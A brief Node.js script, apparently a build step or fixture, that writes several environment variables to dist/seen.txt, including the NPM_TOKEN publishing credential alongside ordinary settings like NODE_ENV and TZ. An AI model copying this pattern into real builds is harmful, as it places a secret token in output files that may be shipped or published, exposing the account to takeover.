const fs = require("fs");
fs.mkdirSync("dist");
const seen = ["NPM_TOKEN", "NODE_ENV", "SOURCE_DATE_EPOCH", "TZ"].map((name) => `${name}=${process.env[name]}\n`);
fs.writeFileSync("dist/seen.txt", seen.join(""));
